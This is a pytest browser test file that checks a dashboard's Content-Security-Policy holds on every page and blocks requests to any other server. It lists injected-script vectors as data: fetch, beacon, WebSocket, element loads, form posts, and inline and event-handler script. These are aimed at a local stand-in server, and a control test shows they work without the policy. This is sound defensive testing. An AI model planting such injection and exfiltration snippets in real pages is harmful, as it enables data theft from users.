"""The Content-Security-Policy in Chromium: every page works under it, and nothing foreign is loaded."""

import http.server
import re
import threading

import pytest

from dashboard.i18n import messages
from tests.support.pages import until

pytestmark = pytest.mark.browser

SAID = messages("en")
PATIENCE = 240_000
PAGES = {
    "": "trust.what",
    "cover": "cover_slide.hint",
    "compare": "agree.note",
    "models": "own.steps",
    "audit": "audit_start.digest",
    "studies": "experiment.again",
    "learn": "learn.handout",
}
"""Path -> key of a sentence that stands there when the page is drawn to its end."""

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
"""

ADD = """
window.add = (name, wanted) => {
  const element = Object.assign(document.createElement(name), wanted);
  document.body.append(element);
  return element;
};
"""
ATTACKS = {
    "fetch": "there => fetch(there + 'fetch', {mode: 'no-cors'}).then(() => 0, () => 1)",
    "beacon": "there => navigator.sendBeacon(there + 'beacon', 'x')",
    "socket": "there => new WebSocket(there.replace('http', 'ws') + 'socket')",
    "picture": "there => add('img', {src: there + 'picture'})",
    "script": "there => add('script', {src: there + 'script'})",
    "style": "there => add('link', {rel: 'stylesheet', href: there + 'style'})",
    "font": "there => add('style', {textContent:"
    " `@font-face { font-family: x; src: url(${there}font) } body { font-family: x }`})",
    "frame": "there => add('iframe', {src: there + 'frame'})",
    "form": "there => add('form', {action: there + 'form', method: 'post'}).submit()",
    "object": "there => add('object', {data: there + 'object'})",
    "inline": "() => add('script', {textContent: 'window.owned = 1'})",
    "handler": "() => { const b = add('b', {}); b.setAttribute('onclick', 'window.owned = 1'); b.click() }",
}
"""What a script or an element smuggled into a page would try -> how."""


@pytest.fixture
def visit(browser, server):
    context = browser.new_context(
        viewport={"width": 1280, "height": 1000}, locale="en-GB", accept_downloads=True
    )
    context.add_init_script(LISTEN + ADD)
    page = context.new_page()
    page.complaints, page.elsewhere = [], []
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.on(
        "console", lambda said: page.complaints.append(said.text) if "Content Security" in said.text else None
    )
    page.on("request", lambda sent: note(page, sent.url, server.address))
    yield page
    context.close()


def note(page, url, address):
    if not url.startswith((address, "blob:" + address, "data:")):
        page.elsewhere.append(url)


def settled(page, address, path):
    page.goto(f"{address}/{path}", timeout=PATIENCE)
    sentence = re.split(r"[`*\n{]", SAID[PAGES[path]].removeprefix("1. "))[0].strip()
    page.get_by_text(sentence).last.wait_for(timeout=PATIENCE, state="attached")
    page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for(timeout=PATIENCE)


@pytest.mark.parametrize("path", PAGES)
def test_every_page_works_under_the_policy_and_asks_nobody_else(visit, server, path):
    settled(visit, server.address, path)
    assert visit.evaluate("window.violations") == []
    assert visit.complaints == []
    assert visit.elsewhere == []


def test_components_and_downloads_work_under_the_policy(visit, server, tmp_path):
    settled(visit, server.address, "")
    visit.get_by_role("button", name=SAID["boxes.move"], exact=True).click()
    visit.get_by_role("button", name=SAID["box_canvas.use"], exact=True).wait_for(timeout=PATIENCE)
    with visit.expect_download(timeout=PATIENCE) as taking:
        visit.get_by_role("button", name=SAID["taken.png"]).click()
    taking.value.save_as(tmp_path / "taken.png")
    assert (tmp_path / "taken.png").read_bytes().startswith(b"\x89PNG")
    visit.goto(f"{server.address}/cover?try=paint&regions=none", timeout=PATIENCE)
    visit.locator("canvas.paint").wait_for(timeout=PATIENCE)
    assert visit.evaluate("window.violations") == []
    assert visit.complaints == []
    assert visit.elsewhere == []


@pytest.fixture
def elsewhere():
    """Another server, and the paths that it was asked for."""
    asked = []

    class Notes(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path.strip("/"))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - http.server calls it so

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Notes) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{running.server_address[1]}/", asked
        running.shutdown()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_smuggled_into_a_page_reaches_nobody(visit, server, elsewhere, attack):
    there, asked = elsewhere
    settled(visit, server.address, "models")
    visit.evaluate(ATTACKS[attack], there)
    until(visit, "window.violations.length > 0")
    assert asked == []
    assert visit.evaluate("window.owned") is None


def test_without_the_policy_the_attacks_would_work(browser, elsewhere):
    """The test above fails where there is nothing to stop them."""
    there, asked = elsewhere
    page = browser.new_page()
    page.set_content("<p>no policy</p>")
    page.evaluate(ADD)
    for name, attack in ATTACKS.items():
        if name not in ("form", "object"):
            page.evaluate(attack, there)
    page.wait_for_timeout(1_000)
    assert set(asked) == ATTACKS.keys() - {"form", "object", "inline", "handler"}
    assert page.evaluate("window.owned") == 1
    page.close()
